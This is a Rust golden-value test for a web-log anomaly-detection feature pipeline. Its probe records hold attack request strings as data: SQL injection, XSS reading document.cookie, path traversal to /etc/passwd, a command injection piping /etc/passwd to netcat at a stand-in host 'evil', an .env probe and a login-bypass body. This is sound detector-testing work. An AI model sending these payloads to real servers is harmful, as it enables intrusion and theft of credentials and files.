//! Pinned feature values: the raw and scaled rows of a fixed set of records, bit for
//! bit, against `tests/golden/pinned.txt`. Optimizations of the hot path must keep
//! these rows identical; a change that alters values on purpose regenerates the file
//! with `ANOMALOG_UPDATE_GOLDEN=1 cargo test -p anomalog-features pinned` and says why.

use std::borrow::Cow;
use std::fmt::Write as _;

use anomalog_ingest::{Record, Timestamp};

use crate::{FeatureConfig, FeaturePipeline};

const T0: f64 = 1_772_455_200.0;

fn record(i: usize, target: &str) -> Record<'static> {
    Record {
        ts: Timestamp::from_unix_secs_f64(T0 + i as f64 * 0.37),
        client: Some(Cow::Owned(format!("10.1.{}.{}", i % 5, i % 11))),
        method: Some(Cow::Borrowed(["GET", "POST", "GET", "HEAD"][i % 4])),
        target: Some(Cow::Owned(target.to_owned())),
        protocol: Some(Cow::Borrowed(if i.is_multiple_of(9) { "HTTP/1.0" } else { "HTTP/1.1" })),
        status: Some([200, 200, 304, 404, 200, 500, 401][i % 7]),
        bytes: Some((i as u64 * 7919) % 40_000),
        referer: i.is_multiple_of(3).then_some(Cow::Borrowed("https://shop.example/")),
        user_agent: Some(Cow::Borrowed(
            ["Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", "curl/8.0", "Googlebot/2.1"][i % 3],
        )),
        request_time: Some(0.003 + (i % 17) as f64 * 0.0071),
        ..Record::default()
    }
}

fn training() -> Vec<Record<'static>> {
    (0..1500)
        .map(|i| {
            let target = match i % 6 {
                0 => format!("/products/{}", i % 211),
                1 => format!("/item.jsp?id={}&color={}", i % 97, ["red", "blue"][i % 2]),
                2 => format!("/search?q=shoe+size+{}&page={}", i % 40, i % 3),
                3 => "/".to_owned(),
                4 => format!("/static/app.{}.js", i % 13),
                _ => format!("/api/v1/orders/{}?expand=items", i * 31 % 1000),
            };
            record(i, &target)
        })
        .collect()
}

/// Records that exercise every family: normal traffic, attacks of each class, bodies,
/// encodings, non-ASCII bytes, absolute-form targets and missing fields.
fn probes() -> Vec<Record<'static>> {
    let targets = [
        "/products/17",
        "/item.jsp?id=5&color=red",
        "/item.jsp?id=5%27%20UNION%20SELECT%20pass%20FROM%20users--&color=red",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/download?file=../../../../etc/passwd%00.png",
        "/cgi-bin/x?cmd=;cat%20/etc/passwd|nc%20evil%204444",
        "/a?x=%252e%252e%252f&x=2&y",
        "http://evil.example:8080/proxy?u=http://x",
        "/caf%C3%A9/men%FC?q=%E9t%E9",
        "/admin/.env",
        "/api/v1/orders/3f2504e0-4f89-11d3-9a0c-0305e82c3301?expand=items",
        "/search?page=2&q=shoe+size+3",
    ];
    let mut out: Vec<Record<'static>> =
        targets.iter().enumerate().map(|(i, t)| record(2000 + i * 3, t)).collect();
    let mut post = record(2100, "/login");
    post.method = Some(Cow::Borrowed("POST"));
    post.body = Some(Cow::Borrowed("user=admin&pw=%27%20or%20%271%27%3D%271"));
    out.push(post);
    let mut json = record(2101, "/api/v1/orders");
    json.body = Some(Cow::Borrowed("{\"id\": 1, \"q\": \"<img src=x onerror=alert(1)>\"}"));
    out.push(json);
    out.push(Record { ts: Timestamp::from_unix_secs_f64(T0 + 900.0), ..Record::default() });
    let mut late = record(1990, "/products/3");
    late.user_agent = Some(Cow::Borrowed("sqlmap/1.7.2#stable (https://sqlmap.org)"));
    out.push(late);
    out
}

fn render() -> String {
    let (p, _) = FeaturePipeline::fit(FeatureConfig::default(), &training()).unwrap();
    let mut s = p.stream();
    let (mut raw, mut scaled) = (Vec::new(), Vec::new());
    let mut text = String::new();
    for (i, r) in probes().iter().enumerate() {
        s.push(r, &mut raw, &mut scaled);
        for ((name, x), y) in p.names().iter().zip(&raw).zip(&scaled) {
            // Bits for exactness, the value for a readable diff.
            let _ = writeln!(text, "{i} {name} {:016x} {:016x} {x} {y}", x.to_bits(), y.to_bits());
        }
    }
    text
}

#[test]
fn pinned_rows_are_unchanged() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/pinned.txt");
    let text = render();
    if std::env::var_os("ANOMALOG_UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden")).unwrap();
        std::fs::write(path, &text).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(path).unwrap();
    for (a, b) in expected.lines().zip(text.lines()) {
        assert_eq!(a, b);
    }
    assert_eq!(expected.lines().count(), text.lines().count());
}
